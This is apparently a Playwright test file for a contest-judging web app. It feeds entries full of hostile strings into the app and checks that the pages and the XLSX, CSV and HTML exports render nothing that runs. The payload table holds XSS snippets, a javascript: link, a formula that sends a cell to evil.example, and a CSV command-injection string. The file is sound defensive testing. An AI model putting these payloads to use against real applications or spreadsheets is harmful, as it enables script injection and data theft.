// Entries written to do harm: nothing of them runs, the pages hold their shape, and what leaves the commission is safe.
import { readFile } from 'node:fs/promises'
import { strFromU8, unzipSync } from 'fflate'
import type { Submission } from '@gorod/core/contest'
import { ballotOf, savesSeen } from '@gorod/core/judging'
import { localOffices, readBallotFile, sha256, type Office } from '@gorod/elements/office'
import type { BrowserContext, Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { ask, open } from '../src/edition.ts'
import { submissions } from '../src/entries.ts'
import { commission, viewerOf } from '../src/people.ts'
import { rules } from '../src/rules.ts'
import { criteria, sheetsOf } from './evening.ts'
import { browserOf, house, sit, type House } from './house.ts'

const scripts = '<script>pwned=1;alert(1)</script><img src=x onerror="pwned=1;alert(2)"><svg onload=alert(3)>'

const harm: Readonly<Record<string, string>> = {
  scripts,
  'the end of a script': `</script></style></textarea>--></template>${scripts}`,
  'a million combining marks': `з${'\u0336\u0489\u0301'.repeat(350_000)}`,
  'right-to-left overrides': 'отчёт\u202Exslx.exe\u202E\u2066 العربية \u2069'.repeat(20),
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Итог")',
  'a formula behind a space': " \t+1+cmd|' /C calc'!A0",
  'a word without an end': 'безконца'.repeat(2_000),
  'what a template would fill in': '${alert(1)} {{constructor}} #{7*7} %s',
}

/** Submissions that carry one kind of harm in every text, as long as the schema lets it in, and longer. */
const hostile: Submission[] = submissions(Object.keys(harm).length).map((submission, index) => {
  const solution = Object.values(harm)[index]!
  const [line, text] = [solution.slice(0, 1_000), solution.slice(0, 20_000)]
  const { card } = submission
  return {
    ...submission,
    entrant: { ...submission.entrant, name: line, organisation: line },
    card: {
      ...card,
      title: line,
      summary: text,
      situation: text,
      solution,
      questions: [text],
      steps: [{ when: text, text }],
      participants: [{ name: text, support: text }],
      indicators: [{ name: text, before: text, after: text, unit: text, period: text }],
      contact: { office: text, link: 'javascript:alert(document.domain)' },
    },
  }
})

let home: House
let context: BrowserContext
const offices = (id: string): Office => localOffices(home.tools)(viewerOf(id)!)

beforeAll(async () => {
  home = await house()
  context = await browserOf(home)
  await open(localOffices(home.tools), hostile)
})

afterAll(() => home?.close())

/** What should be on no page: elements and addresses that could run something, and anything wider than the window. */
const trouble = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const all = (node: ParentNode): Element[] =>
      [...node.querySelectorAll('*')].flatMap((one) => [one, ...(one.shadowRoot ? all(one.shadowRoot) : [])])
    const elements = all(document.body)
    const foreign = elements.filter((one) =>
      one.matches('script, img, iframe, object, embed, base, meta, link, style, svg[onload], [onerror], [srcdoc]'),
    )
    const links = elements.filter((one) => one.matches('[href^="javascript:" i], [action^="javascript:" i]'))
    const { scrollWidth, clientWidth } = document.documentElement
    return [
      ...[...foreign, ...links].map((one) => one.outerHTML.slice(0, 100)),
      ...(scrollWidth > clientWidth ? [`${scrollWidth} px of ${clientWidth}`] : []),
      ...('pwned' in window ? ['something ran'] : []),
    ]
  })

const widths = [320, 1280] as const

test.each(widths)('a juror reads every hostile entry at %i px, and nothing happens', async (width) => {
  const { state } = await offices('juror-1').see()
  const page = await sit(home, 'juror-1', context)
  await page.setViewportSize({ width, height: 800 })
  expect(await trouble(page)).toEqual([])
  const rows = page.getByRole('list', { name: 'Заявки' }).getByRole('button')
  const count = sheetsOf(state, 'juror-1').length
  for (let row = 0; row < count; row++) {
    await rows.nth(row).click()
    await page.getByText(new RegExp(`^Заявка\\s${row + 1}\\sиз`)).waitFor()
    expect(await trouble(page)).toEqual([])
    const gate = page.getByRole('button', { name: /^Конфликта нет/ })
    if (await gate.count()) await gate.click()
    await page.getByRole('region', { name: 'Ваш лист' }).waitFor()
    expect(await trouble(page)).toEqual([])
    await page.getByRole('button', { name: 'К списку' }).click()
    await rows.first().waitFor()
  }
  await page.close()
  expect(home.problems).toEqual([])
})

test('the file of a juror with hostile texts holds his sheets and nothing that runs', async () => {
  const page = await sit(home, 'juror-1', context)
  await context.setOffline(true)
  await page.getByRole('button', { name: /^(Начать|Продолжить)/ }).click()
  await page.keyboard.press('c')
  await page.keyboard.type('=1+1</script>')
  await page.keyboard.press('Tab')
  await page.getByRole('button', { name: 'К списку' }).click()
  await page.getByRole('button', { name: 'Проверить и подписать' }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Скачать мои листы' }).first().click(),
  ])
  expect(download.suggestedFilename()).toMatch(/^Мои листы [\d-]+\.json$/)
  const { value, problems } = readBallotFile(await readFile(await download.path(), 'utf8'))
  expect(problems).toEqual([])
  expect(JSON.stringify(value!.commands)).toContain('=1+1</script>')
  await context.setOffline(false)
  await page
    .getByText(/Принято\sкомиссией/)
    .first()
    .waitFor()
  await page.close()
})

/** The edition with everything judged by offices alone, each comment a formula; met and decided. */
async function judged(): Promise<void> {
  for (const { id } of commission.members.filter(({ role }) => role === 'juror')) {
    const office = offices(id)
    for (const { submission, state: at } of sheetsOf((await office.see()).state, id)) {
      if (at === 'assigned') await ask(office, 'open-sheet', { round: 'r1', submission, noConflict: true })
      const sheet = (await office.see()).state.sheets['r1']![submission]![id]!
      const marks = criteria.map((criterion, index) => [
        criterion,
        { value: 1 + ((index + Number(submission.slice(1))) % 5), over: savesSeen(sheet, 'marks', criterion) },
      ])
      const comments = { novelty: { value: `=1+1${scripts}`, over: savesSeen(sheet, 'comments', 'novelty') } }
      await ask(office, 'save-sheet', { round: 'r1', submission, marks: Object.fromEntries(marks), comments })
      await ask(office, 'submit-sheet', { round: 'r1', submission })
      const { state } = await office.see()
      await ask(office, 'confirm-sheet', {
        submission,
        ballot: ballotOf(state, state.sheets['r1']![submission]![id]!, sha256),
      })
    }
  }
  await ask(offices('secretary'), 'announce-closing', {})
  await ask(offices('chair'), 'close-round', {})
  const present = commission.members.map(({ id }) => id)
  const agenda = rules.nominations.map(({ title }) => `Номинация «${title}»: определение победителей`)
  const meeting = {
    number: '1',
    day: '2026-12-11',
    from: '10:00',
    to: '12:00',
    place: scripts,
    form: 'in-person' as const,
    basis: [scripts],
    present,
    absent: [],
    proxies: [],
    invited: [],
    presiding: 'chair',
    secretary: 'secretary',
    counting: [],
    agenda,
  }
  await ask(offices('secretary'), 'record-meeting', { meeting })
}

const rooms = ['coverage', 'people', 'closing', 'results', 'disagreement', 'meeting', 'protocol', 'verify']

test.each(widths)('every room of the console holds at %i px after a hostile round', async (width) => {
  if ((await offices('chair').see()).state.phase === 'open') await judged()
  const found: Record<string, string[]> = {}
  for (const room of rooms) {
    const page = await sit(home, 'secretary', context, room)
    await page.setViewportSize({ width, height: 800 })
    await page.locator('#room').waitFor()
    await expect.poll(() => page.getByText(/Считаем/).count()).toBe(0)
    found[room] = await trouble(page)
    await page.close()
  }
  expect(found).toEqual(Object.fromEntries(rooms.map((room) => [room, []])))
  expect(home.problems).toEqual([])
})

test('what leaves the console is text and numbers: no formula, no markup', async () => {
  const page = await sit(home, 'secretary', context, 'protocol')
  const saved = async (name: RegExp): Promise<Buffer> => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name }).click()])
    return readFile(await download.path())
  }
  const workbook = unzipSync(new Uint8Array(await saved(/^Результаты \(XLSX\)/)))
  for (const [name, bytes] of Object.entries(workbook)) {
    const xml = strFromU8(bytes)
    expect([name, /<f[\s>]/.test(xml), /<(script|img)/i.test(xml), /TargetMode="External"/.test(xml)]).toEqual([
      name,
      false,
      false,
      false,
    ])
  }
  expect(
    Object.values(workbook)
      .map((bytes) => strFromU8(bytes))
      .join(''),
  ).toContain('HYPERLINK')

  const csv = (await saved(/^Результаты \(CSV\)/)).toString('utf8')
  const cells = [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, text]) => text!)
  expect(cells.filter((cell) => /^[\s\uFEFF]*[=+\-@]/.test(cell))).toEqual([])
  expect(cells.some((cell) => cell.startsWith("'=HYPERLINK"))).toBe(true)

  const paper = await context.newPage()
  for (const name of [/^Протокол \(HTML\)/, /^Дипломы \(HTML\)/]) {
    if (!(await page.getByRole('button', { name }).count())) continue
    await paper.setContent((await saved(name)).toString('utf8'))
    expect(await paper.locator('script, img, svg, iframe, a[href^="javascript:" i]').count()).toBe(0)
    expect(await paper.evaluate(() => 'pwned' in window)).toBe(false)
    expect(await paper.locator('body').innerText()).toContain('<script>')
  }
  expect(home.problems).toEqual([])
})
